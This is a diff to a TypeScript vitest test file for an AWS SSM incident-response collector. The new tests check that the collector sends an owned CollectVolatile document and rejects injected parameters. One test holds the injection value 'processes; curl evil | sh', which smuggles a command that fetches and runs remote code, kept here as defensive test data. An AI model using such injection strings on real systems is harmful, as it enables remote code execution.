@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { COLLECTION_COMMANDS, memoryToolFrom } from '../../src/volatile/collection-commands.js';
 import { outcomeOf } from '../../src/volatile/command-outcome.js';
 import { managedInstanceFrom } from '../../src/volatile/managed-instance.js';
+import { documentSetOf } from '../../src/volatile/owned-documents.js';
 import { runCollectionCommand } from '../../src/volatile/run-command.js';
 
 // moto's SSM always reports Success, so every other command outcome is covered here on recorded
@@ -29,10 +30,12 @@ const recorded = {
 /** An SSM client answering SendCommand, then GetCommandInvocation from a script of responses. */
 function scriptedSsm(invocations: Array<Record<string, unknown> | Error>) {
   const calls: string[] = [];
+  const sent: Array<Record<string, unknown>> = [];
   const client = {
-    async send(command: { constructor: { name: string } }) {
+    async send(command: { constructor: { name: string }; input: Record<string, unknown> }) {
       const name = command.constructor.name;
       calls.push(name);
+      if (name === 'SendCommandCommand') sent.push(command.input);
       if (name === 'SendCommandCommand') return { Command: { CommandId: 'cmd-1' } };
       if (name === 'CancelCommandCommand') return {};
       const next = invocations.length > 1 ? invocations.shift() : invocations[0];
@@ -40,13 +43,19 @@ function scriptedSsm(invocations: Array<Record<string, unknown> | Error>) {
       return next;
     },
   };
-  return { ssm: client as unknown as SSMClient, calls };
+  return { ssm: client as unknown as SSMClient, calls, sent };
 }
+
+const documents = documentSetOf({
+  IR_PREFIX: 'ir',
+  IR_EVIDENCE_BUCKET: 'ir-evidence-123456789012-us-east-1',
+});
 
 const settings = (ssm: SSMClient, clock: { t: number }) => ({
   ssm,
   instanceId: 'i-0abc',
   incidentId: 'inc-1',
+  documents,
   timeoutSeconds: 30,
   pollMs: 1000,
   signal: new AbortController().signal,
@@ -73,7 +82,33 @@ describe('outcomeOf', () => {
 });
 
 describe('runCollectionCommand', () => {
-  const command = COLLECTION_COMMANDS[0] ?? { name: 'x', description: 'x', script: ['true'] };
+  const command = COLLECTION_COMMANDS[0] as (typeof COLLECTION_COMMANDS)[number];
+
+  it('sends the owned CollectVolatile document with its parameters, never AWS-RunShellScript', async () => {
+    // Prepare
+    const { ssm, sent } = scriptedSsm([recorded.success]);
+    // Act
+    await runCollectionCommand(command, settings(ssm, { t: 0 }));
+    // Assess
+    expect(sent).toEqual([
+      expect.objectContaining({
+        DocumentName: 'ir-CollectVolatile',
+        InstanceIds: ['i-0abc'],
+        Parameters: { collection: ['processes'], executionTimeout: ['30'] },
+      }),
+    ]);
+  });
+
+  it('refuses a parameter value the document would refuse, and sends nothing', async () => {
+    // Prepare
+    const { ssm, calls } = scriptedSsm([recorded.success]);
+    const injected = { ...command, parameters: { collection: 'processes; curl evil | sh' } };
+    // Act / Assess
+    await expect(runCollectionCommand(injected, settings(ssm, { t: 0 }))).rejects.toThrow(
+      /refusing to send processes with CollectVolatile: collection does not match/,
+    );
+    expect(calls).toEqual([]);
+  });
 
   it('waits through a missing invocation and InProgress, then records a failure with its stderr', async () => {
     // Prepare
